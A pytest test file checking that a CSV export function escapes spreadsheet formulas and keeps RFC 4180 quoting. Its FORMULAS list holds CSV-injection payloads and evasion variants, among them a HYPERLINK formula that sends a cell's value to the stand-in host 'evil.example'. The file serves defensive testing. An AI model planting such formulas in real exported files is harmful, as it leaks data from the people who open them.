"""CSV rows follow RFC 4180 and run nothing in the spreadsheet that opens them."""

import csv
import io

import pytest

from stoplist.web.admin import csv_lines

PLAIN = [
    "",
    "plain",
    "a,b",
    'she said "no"',
    "two\r\nlines",
    "two\nlines",
    "semi;colon",
    "a'b",
    "Zoë 例",
    "1 = 1",
    "-",
    "a-b",
]
# What OWASP lists under "CSV Injection", and variants that evade a check of the first character.
FORMULAS = [
    "=1+1",
    "+1",
    "-1+2",
    "@SUM(A1)",
    '=HYPERLINK("https://evil.example?x="&A1,"ok")',
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\N{NO-BREAK SPACE}=1",
    '"=1',
    "'=1",
    '" \'=1"',
    "\ufeff=1",
    "\N{FULLWIDTH EQUALS SIGN}1",
    "\N{FULLWIDTH PLUS SIGN}1",
    "\N{FULLWIDTH HYPHEN-MINUS}1",
    "\N{FULLWIDTH COMMERCIAL AT}x",
]


def read(text: str, **options: str) -> list[list[str]]:
    """Parse CSV with the standard library."""
    return list(csv.reader(io.StringIO(text, newline=""), strict=True, **options))  # type: ignore[arg-type]


@pytest.mark.parametrize("cell", [cell for cell in PLAIN if cell != "-"])
def test_ordinary_cells_are_unchanged(cell: str) -> None:
    """Commas, quotes and line breaks included (RFC 4180 section 2, rules 5 to 7)."""
    text = csv_lines.line(["before", cell, "after"])
    assert text.endswith("\r\n")
    assert read(text) == [["before", cell, "after"]]


@pytest.mark.parametrize("cell", [*FORMULAS, "-"])
def test_formulas_get_an_apostrophe(cell: str) -> None:
    """= + - @ at the beginning, also after white space, a byte order mark or quotes, or in full width."""
    ((_, read_back, _),) = read(csv_lines.line(["before", cell, "after"]))
    assert read_back.startswith("'")
    assert read_back.replace("'", "") == cell.replace("'", ""), "nothing else was changed"


@pytest.mark.parametrize("cell", ["\ttext", "\rtext", "\ntext"])
def test_a_leading_tab_or_line_break_gets_an_apostrophe(cell: str) -> None:
    """Some programs strip it and evaluate what follows."""
    assert read(csv_lines.line([cell])) == [["'" + cell]]


@pytest.mark.parametrize("separator", [";", "\t"])
@pytest.mark.parametrize("formula", ["=1+1", " =1+1", '"=1+1'])
def test_other_separators_expose_no_formula(separator: str, formula: str) -> None:
    """Spreadsheets of languages with a decimal comma split at ; and some at tabs: a name may hold either."""
    assert read(csv_lines.line([f"name{separator}{formula}"])) == [[f"name{separator}'{formula}"]]


def test_a_line_break_in_a_cell_starts_no_row() -> None:
    text = csv_lines.line(["a\n=1+1", "b"])
    assert read(text) == [["a\n'=1+1", "b"]]
